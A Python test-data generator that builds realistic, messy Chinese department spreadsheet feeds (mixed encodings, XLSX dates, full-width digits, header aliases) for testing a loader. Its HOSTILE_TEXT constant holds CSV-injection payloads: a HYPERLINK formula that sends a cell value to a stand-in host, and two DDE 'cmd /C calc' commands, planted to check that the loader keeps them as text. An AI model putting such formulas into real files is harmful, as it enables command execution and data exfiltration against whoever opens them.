"""Write feeds the way departments really send them (SPEC §2): GB18030 and BOM CSVs,
XLSX with real Excel dates, header aliases with stray spaces, full-width digits,
lower-case check characters, and every allowed date form.

Every change here is one the loader must undo exactly: the expected findings are
computed from the canonical rows, before this module dresses them up.
"""

from __future__ import annotations

import csv
import random
from collections import Counter
from collections.abc import Iterable
from datetime import date
from pathlib import Path

import openpyxl

from kcbx.feeds import feed as get_feed
from kcbx.outputs.cells import cell

FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
# Free text a spreadsheet would run (OWASP CSV injection): a full-width ＝ the loader folds
# into '=', a DDE command, an @-function. One cell each; they must load as data, be noted
# in audit.formula_cells and stay text in every workbook KCBX writes.
HOSTILE_TEXT = {
    "huji": ("姓名", '＝HYPERLINK("http://example.invalid/?d="&C3,"点此查看")'),
    "quanfan": ("责任人", "=cmd|' /C calc'!A0"),
    "schools": ("学校名称", "@SUM(1+1)*cmd|' /C calc'!A0"),
}
FORMS = ("utf-8", "utf-8-sig", "gb18030", "xlsx")


def date_forms(day: date) -> tuple[str, ...]:
    return (
        day.isoformat(),
        f"{day.year}/{day.month}/{day.day}",
        f"{day:%Y%m%d}",
        f"{day.year}年{day.month}月{day.day}日",
    )


def grade_form(grade: str, rng: random.Random) -> str:
    g = int(grade)
    forms = [grade, f"{'一二三四五六七八九'[g - 1]}年级"]
    if g >= 7:
        forms.append(f"初{'一二三'[g - 7]}")
    return rng.choice(forms)


class Dresser:
    """Turns canonical rows of one feed into delivered cells, seeded for reproducibility."""

    def __init__(self, feed_name: str, rng: random.Random, excel: bool):
        self.feed = get_feed(feed_name)
        self.rng = rng
        self.excel = excel
        # Each file picks a header per column: the canonical name or an alias, maybe padded.
        self.headers = []
        for column in self.feed.columns:
            name = rng.choice((column.name, *column.aliases)) if column.aliases else column.name
            self.headers.append(f" {name} " if rng.random() < 0.2 else name)

    def cells(self, row: dict) -> list[object]:
        out: list[object] = []
        for column in self.feed.columns:
            value = row.get(column.name, "")
            out.append(self._dress(column.type, value))
        return out

    def _dress(self, kind: str, value: str) -> object:
        rng = self.rng
        if value in ("", None):
            return None if self.excel else ""
        if kind == "date":
            try:
                day = date.fromisoformat(value)
            except ValueError:
                return value  # a deliberately broken date stays broken
            if self.excel and rng.random() < 0.7:
                return day  # a real Excel date cell
            return rng.choice(date_forms(day))
        if kind == "id":
            r = rng.random()
            if r < 0.1:
                return value.translate(FULL_WIDTH)
            if r < 0.3 and value.endswith("X"):
                return value[:-1] + "x"
            if r < 0.4:
                return f" {value} "
            return value
        if kind == "grade":
            return grade_form(value, rng)
        if kind == "digits" and rng.random() < 0.05:
            return value.translate(FULL_WIDTH)
        if rng.random() < 0.05:
            return f"{value}\u3000" if kind == "code" else f" {value}"
        return value


def write_file(path: Path, form: str, header: list[str], rows: Iterable[list[object]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if form == "xlsx":
        path = path.with_suffix(".xlsx")
        workbook = openpyxl.Workbook(write_only=True)
        sheet = workbook.create_sheet("数据")
        sheet.append(header)
        for row in rows:
            # text cells, as a department's export holds them (a name starting with '='
            # is text there, not a formula)
            sheet.append([cell(sheet, v) if isinstance(v, str) else v for v in row])
        workbook.save(path)
        return path
    path = path.with_suffix(".csv")
    with path.open("w", encoding=form, newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        for row in rows:
            writer.writerow(["" if c is None else c.isoformat() if isinstance(c, date) else c for c in row])
    return path


def plant_hostile_text(rows: dict[str, list[dict]]) -> dict[str, str]:
    """Put HOSTILE_TEXT into the first row of each feed that has a value there (for the
    persuasion records, into every row of the child with the most of them, so it is the
    责任人 of a case whichever action is the latest); returns feed -> raw column planted."""
    planted = {}
    for feed_name, (header, value) in HOSTILE_TEXT.items():
        candidates = [row for row in rows.get(feed_name, []) if row.get(header)]
        if not candidates:
            continue
        chosen = candidates[:1]
        if feed_name == "quanfan":
            counts = Counter(row.get("身份证号") or "" for row in candidates)
            child = max(sorted(counts), key=lambda number: counts[number])
            chosen = [row for row in candidates if (row.get("身份证号") or "") == child]
        for row in chosen:
            row[header] = value
        planted[feed_name] = next(c.col for c in get_feed(feed_name).columns if c.name == header)
    return planted
